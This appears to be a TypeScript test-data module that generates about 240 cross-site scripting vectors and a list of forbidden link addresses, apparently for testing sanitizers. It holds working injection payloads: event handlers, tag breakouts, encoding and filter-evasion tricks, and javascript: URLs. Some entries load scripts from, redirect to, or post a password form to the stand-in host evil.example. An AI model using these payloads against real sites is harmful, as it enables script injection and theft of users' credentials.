// What attackers put into text fields: elements, ways out of attributes and of raw text, half-open tags, encodings, and addresses that run.
const handlers = ['onerror', 'onload', 'onmouseover', 'onfocus', 'ontoggle', 'onbegin', 'onanimationstart', 'onpointerenter'];
const elements = ['img src=x', 'svg', 'body', 'details open', 'video src=x', 'iframe', 'input autofocus', 'marquee', 'object data=x', 'math'];
const breakers = ['"', "'", '">', "'>", '"/>', '</p>', '</a>', '</figcaption>', '-->', ']]>', '</title>', '</textarea>', '</script>', '</style>', '`', '\\"', '&quot;>', '&#34;>', '%22>', '\u2028'];
const scripts = [
  '<script>alert(1)</script>', '<SCRIPT SRC=//evil.example>', '<scr<script>ipt>alert(1)</scr</script>ipt>', '<script\n>alert(1)</script>', '<script/x>alert(1)</script>', '<<script>alert(1)//<</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;', '&#60;script&#62;alert(1)', '\\u003cscript\\u003ealert(1)', '%3Cscript%3Ealert(1)', '＜script＞alert(1)', '<ſcript>alert(1)</ſcript>', '<!--<script>', '<![CDATA[<script>', '<?xml ?><script>',
  '<style>@import "//evil.example"</style>', '<link rel=stylesheet href=//evil.example>', '<meta http-equiv=refresh content=0;url=//evil.example>', '<base href=//evil.example>', '<form action=//evil.example><input name=password>',
];
const addresses = ['javascript:', 'JAVASCRIPT:', 'java\tscript:', 'java\nscript:', ' javascript:', '\u0001javascript:', 'javascript&colon;', 'jav&#x09;ascript:', 'data:text/html,', 'data:text/html;base64,', 'vbscript:', 'blob:', 'filesystem:', 'view-source:', 'feed:javascript:', '//evil.example/', '/\\evil.example/', 'https://x" onclick="', "https://x' onclick='", 'https://x><script>'];

/** 240 vectors for text fields. */
export const xssVectors: string[] = [
  ...elements.flatMap((element) => handlers.map((handler) => `<${element} ${handler}=alert(1)>`)),
  ...breakers.flatMap((breaker) => ['<svg/onload=alert(1)>', ' onmouseover=alert(1) x=', 'javascript:alert(1)', '<script>alert(1)</script>', ' style=position:fixed ', '<a href=javascript:alert(1)>x'].map((rest) => breaker + rest)),
  ...scripts,
  ...addresses.map((address) => `<a href="${address}alert(1)">x</a>`),
];

/** Addresses that no link may have. */
export const badAddresses: string[] = addresses.map((address) => `${address}alert(1)`);
